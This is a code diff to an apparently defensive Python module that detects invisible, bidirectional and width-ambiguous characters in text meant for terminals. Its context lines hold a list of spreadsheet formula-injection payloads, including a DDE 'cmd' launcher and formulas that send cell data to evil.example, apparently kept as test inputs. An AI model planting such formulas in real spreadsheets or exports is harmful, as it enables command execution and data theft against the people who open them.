@@ -86,6 +86,7 @@ _UNSEEN = (
     *range(0x206A, 0x2070), 0x3164, 0xFE00, 0xFE0D, 0xFEFF, 0xFFA0, *range(0xFFF9, 0xFFFC), *range(0x1BCA0, 0x1BCA4),
     *range(0x1D173, 0x1D17B),
 )  # fmt: skip
+_NEVER = frozenset({*_BIDI, *_UNSEEN, *range(0x180B, 0x1810), *range(0xFE00, 0xFE0E), *range(0xE0000, 0xE1000)})
 _FORMULAS = (
     "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', "SUM(1+1)*cmd|' /C calc'!A0",
     'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")', 'WEBSERVICE("http://evil.example")', "A1", '"a"',
@@ -226,18 +227,19 @@ def few(count: int) -> list[tuple[str, str]]:
 def is_harmless(text: str) -> bool:
     """Whether nothing in a text could act on a terminal, break a line, or hide."""
     return not any(
-        unicodedata.category(char) in {"Cc", "Cs", "Co", "Cn", "Zl", "Zp"} or ord(char) in _BIDI or ord(char) in _UNSEEN
-        for char in text
+        unicodedata.category(char) in {"Cc", "Cs", "Co", "Cn", "Zl", "Zp"} or ord(char) in _NEVER for char in text
     )
 
 
 def columns(text: str) -> int | None:
     """Return how many cells a terminal gives a text; None where terminals differ."""
-    if any(
-        char in "\u200d\ufe0e\ufe0f" or 0x1F1E6 <= ord(char) <= 0x1F1FF or 0x1F3FB <= ord(char) <= 0x1F3FF
-        for char in text
-    ):
-        return None
-    if any(unicodedata.category(char) in {"Mc", "Cf"} for char in text):
-        return None
-    return sum(max(wcwidth(char), 0) for char in text)
+    return None if any(map(_is_disputed, text)) else sum(max(wcwidth(char), 0) for char in text)
+
+
+def _is_disputed(char: str) -> bool:
+    if unicodedata.category(char) in {"Mc", "Cf"} or char in "\ufe0e\ufe0f":
+        return True
+    if "\U0001f1e6" <= char <= "\U0001f1ff" or "\U0001f3fb" <= char <= "\U0001f3ff":
+        return True
+    # What became wide with a later Unicode than Python's.
+    return wcwidth(char) == 2 and unicodedata.east_asian_width(char) not in {"W", "F"}
